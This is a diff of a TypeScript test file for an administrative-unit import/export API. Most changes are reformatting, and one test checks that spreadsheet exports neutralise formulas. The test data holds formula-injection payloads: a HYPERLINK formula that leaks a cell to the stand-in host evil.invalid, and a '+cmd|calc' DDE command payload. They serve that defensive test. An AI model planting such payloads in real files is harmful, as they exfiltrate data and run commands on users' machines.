@@ -25,8 +25,11 @@ describe(`import and export (${engineName})`, () => {
     const { database } = await getHarness();
     const office = await t.as('office');
     // Counted within this tenant only: other test files may write to the same database meanwhile.
-    const count = async () => (await sql<{ n: number }>`select count(*)::int as n from units where name like ${'%' + t.tag + '%'}`.execute(database.db)).rows[0].n;
-    const events = async () => (await sql<{ n: number }>`select count(*)::int as n from audit_events where actor_id = ${t.users.office.id}`.execute(database.db)).rows[0].n;
+    const count = async () =>
+      (await sql<{ n: number }>`select count(*)::int as n from units where name like ${'%' + t.tag + '%'}`.execute(database.db)).rows[0].n;
+    const events = async () =>
+      (await sql<{ n: number }>`select count(*)::int as n from audit_events where actor_id = ${t.users.office.id}`.execute(database.db))
+        .rows[0].n;
     const [unitsBefore, eventsBefore] = [await count(), await events()];
     const file = await workbook(UNIT_HEADERS, [
       [`好单位${t.tag}`, '县直部门', t.countyCode, '', '张三', '13900001111', '李四', '13900002222', '启用'],
@@ -50,7 +53,17 @@ describe(`import and export (${engineName})`, () => {
   it('imports a valid file (parents later in the file are fine), then exports the same rows', async () => {
     const office = await t.as('office');
     const file = await workbook(UNIT_HEADERS, [
-      [`朝阳社区居委会${t.tag}`, '村社区', `${t.countyCode}001`, `城东街道办${t.tag}`, '乐朝阳', '13900003333', '于晖', '0316-5201234', '启用'],
+      [
+        `朝阳社区居委会${t.tag}`,
+        '村社区',
+        `${t.countyCode}001`,
+        `城东街道办${t.tag}`,
+        '乐朝阳',
+        '13900003333',
+        '于晖',
+        '0316-5201234',
+        '启用',
+      ],
       [`城东街道办${t.tag}`, '乡镇街道', `${t.countyCode}001`, '', '史东升', '13900004444', '', '', ''],
     ]);
     const res = await office.upload('/api/units/import', file);
@@ -60,7 +73,17 @@ describe(`import and export (${engineName})`, () => {
     expect(list.body.items[0]).toMatchObject({ type: 'community', parentName: `城东街道办${t.tag}`, liaisonPhone: '0316-5201234' });
     const exported = await readBack((await office.get(`/api/units/export?regionId=${t.townAId}`)).raw);
     expect(exported[0]).toEqual(UNIT_HEADERS);
-    expect(exported.find((r) => r[0] === `朝阳社区居委会${t.tag}`)).toEqual([`朝阳社区居委会${t.tag}`, '村社区', `${t.countyCode}001`, `城东街道办${t.tag}`, '乐朝阳', '13900003333', '于晖', '0316-5201234', '启用']);
+    expect(exported.find((r) => r[0] === `朝阳社区居委会${t.tag}`)).toEqual([
+      `朝阳社区居委会${t.tag}`,
+      '村社区',
+      `${t.countyCode}001`,
+      `城东街道办${t.tag}`,
+      '乐朝阳',
+      '13900003333',
+      '于晖',
+      '0316-5201234',
+      '启用',
+    ]);
     // Importing the same rows again updates instead of duplicating.
     expect((await office.upload('/api/units/import', file)).body).toEqual({ created: 0, updated: 2 });
   });
@@ -74,15 +97,21 @@ describe(`import and export (${engineName})`, () => {
 
   it('imports regions with the parent given after the child, and rejects a bad level order', async () => {
     const admin = await t.as('admin');
-    const bad = await admin.upload('/api/regions/import', await workbook(['区划代码', '名称', '层级', '上级区划代码'], [[`${t.countyCode}001901`, '某村', '县(区)', `${t.countyCode}001`]]));
+    const bad = await admin.upload(
+      '/api/regions/import',
+      await workbook(['区划代码', '名称', '层级', '上级区划代码'], [[`${t.countyCode}001901`, '某村', '县(区)', `${t.countyCode}001`]]),
+    );
     expect(bad.status).toBe(422);
     expect(bad.body.error.rows[0]).toMatchObject({ row: 2, column: '层级' });
     const ok = await admin.upload(
       '/api/regions/import',
-      await workbook(['区划代码', '名称', '层级', '上级区划代码'], [
-        [`${t.countyCode}003001`, '幸福社区', '村(社区)', `${t.countyCode}003`],
-        [`${t.countyCode}003`, '幸福街道', '乡镇(街道)', t.countyCode],
-      ]),
+      await workbook(
+        ['区划代码', '名称', '层级', '上级区划代码'],
+        [
+          [`${t.countyCode}003001`, '幸福社区', '村(社区)', `${t.countyCode}003`],
+          [`${t.countyCode}003`, '幸福街道', '乡镇(街道)', t.countyCode],
+        ],
+      ),
     );
     expect(ok.status).toBe(201);
     expect(ok.body).toEqual({ created: 2, updated: 0 });
@@ -93,10 +122,19 @@ describe(`import and export (${engineName})`, () => {
   it('imports accounts with temporary passwords that must be changed, refusing 三员分立 violations', async () => {
     const sec = await t.as('security');
     const headers = ['用户名', '姓名', '手机号', '所属单位', '所属区划代码', '角色', '创建项目'];
-    const bad = await sec.upload('/api/users/import', await workbook(headers, [[`imp1${t.tag}`, '张一', '', '', '', '审计管理员；创建办', '']]));
+    const bad = await sec.upload(
+      '/api/users/import',
+      await workbook(headers, [[`imp1${t.tag}`, '张一', '', '', '', '审计管理员；创建办', '']]),
+    );
     expect(bad.status).toBe(422);
     expect(bad.body.error.rows.map((r: { column: string }) => r.column)).toEqual(expect.arrayContaining(['角色', '所属区划代码']));
-    const ok = await sec.upload('/api/users/import', await workbook(headers, [[`imp2${t.tag}`, '张二', '', `市场监管局${t.tag}`, '', '单位联络员', ''], [`imp3${t.tag}`, '张三', '', '', t.countyCode, '督查员', '']]));
+    const ok = await sec.upload(
+      '/api/users/import',
+      await workbook(headers, [
+        [`imp2${t.tag}`, '张二', '', `市场监管局${t.tag}`, '', '单位联络员', ''],
+        [`imp3${t.tag}`, '张三', '', '', t.countyCode, '督查员', ''],
+      ]),
+    );
     expect(ok.status).toBe(201);
     expect(ok.body.created).toBe(2);
     const cred = ok.body.credentials[0];
@@ -114,7 +152,9 @@ describe(`formulas never leave in an export (${engineName})`, () => {
     const ExcelJS = (await import('exceljs')).default;
     const office = await t.as('office');
     const name = `=HYPERLINK("http://evil.invalid/?"&A1,"点我")${t.tag}`;
-    const file = await workbook(UNIT_HEADERS, [[name, '县直部门', `${t.countyCode}001`, '', '@SUM(1+1)', '13900005555', '+cmd|calc', '', '启用']]);
+    const file = await workbook(UNIT_HEADERS, [
+      [name, '县直部门', `${t.countyCode}001`, '', '@SUM(1+1)', '13900005555', '+cmd|calc', '', '启用'],
+    ]);
     const imported = await office.upload('/api/units/import', file);
     expect(imported.status, JSON.stringify(imported.body)).toBe(201);
     const exported = (await office.get(`/api/units/export?regionId=${t.townAId}`)).raw;
@@ -139,6 +179,8 @@ describe(`formulas never leave in an export (${engineName})`, () => {
     // The export re-imports as the same unit (the quote is dropped on reading), not a new one named "'=…".
     expect((await office.upload('/api/units/import', exported)).body).toMatchObject({ created: 0 });
     const list = await office.get(`/api/units?search=${encodeURIComponent(t.tag)}&pageSize=100`);
-    expect(list.body.items.filter((u: { name: string }) => u.name.includes('HYPERLINK')).map((u: { name: string }) => u.name)).toEqual([name]);
+    expect(list.body.items.filter((u: { name: string }) => u.name.includes('HYPERLINK')).map((u: { name: string }) => u.name)).toEqual([
+      name,
+    ]);
   });
 });
